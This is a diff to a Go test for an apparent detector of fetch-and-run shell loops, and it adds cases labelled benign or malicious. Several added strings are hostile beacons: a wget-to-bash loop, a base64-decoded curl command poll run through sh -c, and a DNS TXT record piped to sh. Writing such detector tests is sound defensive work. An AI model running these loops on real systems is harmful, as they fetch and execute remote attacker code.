@@ -21,6 +21,14 @@ func TestFetchRunLoop(t *testing.T) {
 		{"while :; do curl -fsS http://127.0.0.1/health >/dev/null || logger down; sleep 5; done", false},
 		{"curl -fsSL https://get.example.com/install.sh | sh", false},
 		{"for f in /etc/cron.daily/*; do sh $f; done", false},
+		// a retry ends: an installer fetched again until it works
+		{"for i in 1 2 3; do curl -fsSL https://get.example.com/install.sh | sh && break; sleep 5; done", false},
+		{"while sleep 30; do wget -qO- http://198.51.100.7/t | bash; done", true},
+		// a bounded poll is still a beacon: twenty minutes of tasks
+		{"n=0; while [ $n -lt 600 ]; do n=$((n+1)); c=$(curl -sk https://198.51.100.7/q | base64 -d); [ \"$c\" = x ] && break; sh -c \"$c\"; sleep 2; done", true},
+		// an admin's loop over the fleet: host is its variable, not host(1)
+		{"for host in web1 web2; do scp deploy.sh $host:/tmp/; ssh $host sh /tmp/deploy.sh; done", false},
+		{"while :; do host -t txt t.example.net | cut -d'\"' -f2 | base64 -d | sh; sleep 30; done", true},
 	} {
 		e, err := New(Options{})
 		if err != nil {
